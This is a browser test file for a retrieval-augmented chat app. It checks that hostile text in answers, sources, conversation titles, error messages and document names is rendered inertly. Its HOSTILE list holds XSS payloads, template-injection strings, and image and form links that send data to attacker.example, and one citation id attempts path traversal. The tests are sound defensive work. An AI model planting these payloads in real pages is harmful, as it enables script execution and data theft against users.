import { expect, it } from 'vitest';
import { describeInBrowser } from '../../../fixtures/describe-with';
import { expectEventually } from '../../../fixtures/eventually';
import { ragInBrowser } from './pages-fixture';
import { eventsOf, problem, streamed } from './scripted-answer-fixture';

/** What a document, a model or another user may say. None of it may do anything. */
const HOSTILE = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 1">',
  '<svg onload="window.owned = 1"><animate onbegin=window.owned=1 attributeName=x dur=1s>',
  '"><iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '<a href="javascript:window.owned=1">click</a> [click](javascript:window.owned=1)',
  '![x](https://attacker.example/?q=secret) <link rel=stylesheet href=//attacker.example>',
  '</p></div></main><form action=//attacker.example><input name=q>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody hopes to have filled in.
  "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} `window.owned=1`",
  '<style>*{display:none}</style><base href=//attacker.example>',
  '\u202E gnp.exe \u0000 &lt;b&gt; &#x3C;script&#x3E; <b>bold</b>',
  '[1][2][99][-1][1<img src=x onerror=window.owned=1>]',
];
/** All at once; HTML leaves out what stands for nothing. */
const TEXT = HOSTILE.join(' ');

describeInBrowser('hostile text in a browser', () => {
  const at = ragInBrowser();

  /** Elements that only markup in a text could have made. */
  const strangers = () =>
    at.page.evaluate(`[
      ...document.querySelectorAll('body script, body style, img, iframe, svg, base, form[action], main a[href*=":"], b, main link')
    ].map((stranger) => stranger.outerHTML)`);
  const nothingHappened = async () => {
    expect(await strangers()).toEqual([]);
    expect(await at.page.evaluate('window.owned')).toBeUndefined();
    expect(at.tab.complaints.filter((each) => !each.includes('status of'))).toEqual([]);
  };

  it('is text in an answer, its sources and a kept conversation', async () => {
    const { page, state } = at;
    const elsewhere: string[] = [];
    page.on('request', (request) => elsewhere.push(new URL(request.url()).hostname));
    await at.enter();
    const citations = [
      { number: 1, documentId: '../../me', name: TEXT, excerpt: TEXT },
      { number: 2, documentId: 'x', name: '', excerpt: '' },
    ];
    const answer = { answer: TEXT, citations };
    state.answers.push(({ conversation, question }) =>
      streamed(eventsOf(state.keep(conversation, { question, ...answer }))),
    );
    await at.ask(HOSTILE.slice(0, 4).join(' '));
    await at.answered();
    const shown = async () => {
      const text = await page.locator('.answer').textContent();
      // Markers of sources are buttons, with the number alone; what looks like one and is none stays as it is.
      expect(text?.replaceAll(/\s/g, '')).toBe(TEXT.replaceAll(/\[([12])\]/g, '$1').replaceAll(/\s/g, ''));
      expect(await page.locator('blockquote').first().textContent()).toBe(TEXT);
      await nothingHappened();
    };
    await shown();
    await page.getByRole('button', { name: 'Source 1' }).click();
    await page.locator('details[open]').getByRole('button').click();
    // An id is one part of a path, whatever it holds.
    await expectEventually(() => state.requests.at(-1)).toBe('GET /api/documents/..%2F..%2Fme');
    await page.reload();
    await page.getByRole('heading', { name: 'Sources' }).waitFor();
    await shown();
    await page.getByRole('link', { name: 'Conversations' }).click();
    await page.locator('.items a').waitFor();
    expect(await page.locator('.items a').textContent()).toBe(state.conversations[0]?.title);
    await nothingHappened();
    expect([...new Set(elsewhere)]).toEqual(['127.0.0.1']);
  });

  it('is text in what the guardrail and the API say', async () => {
    const { page, state } = at;
    await at.enter();
    state.answers.push(() => streamed(eventsOf({ answer: TEXT, guardrail: { action: 'blocked', of: 'answer' } })));
    await at.ask('One?');
    await page.getByText('The guardrail blocked the answer.').waitFor();
    await nothingHappened();
    state.answers.push(() => problem(503, 'x', TEXT, TEXT));
    await at.ask('Two?');
    await page.getByRole('button', { name: 'Try again' }).waitFor();
    expect(await page.locator('.problem p').first().textContent()).toBe(TEXT);
    await nothingHappened();
    state.instead = () => problem(500, 'x', TEXT, TEXT);
    await page.getByRole('link', { name: 'Conversations' }).click();
    await page.getByRole('heading', { name: 'could not be loaded' }).waitFor();
    expect(await page.getByRole('alert').textContent()).toContain(TEXT);
    await nothingHappened();
  });

  it('is text in the names of documents, in why one failed, and in a tenant', async () => {
    const { page, state } = at;
    state.tenant = `t-${TEXT}`;
    state.document({ name: TEXT, status: 'failed', reason: TEXT });
    await at.enter('/documents');
    expect(await page.locator('.name').textContent()).toBe(TEXT);
    expect(await page.locator('.failed .quiet').textContent()).toContain(`not read: ${TEXT}`);
    await expectEventually(() => page.getByText('Everyone in').textContent()).toContain(TEXT);
    await page.locator('.failed').getByRole('button', { name: 'Delete' }).click();
    await page.getByRole('dialog').waitFor();
    await nothingHappened();
    await page.getByRole('button', { name: 'Delete document' }).click();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    // It is said when the service has answered.
    await expectEventually(() => page.getByRole('status').textContent()).toContain(TEXT);
    await nothingHappened();
  });
});
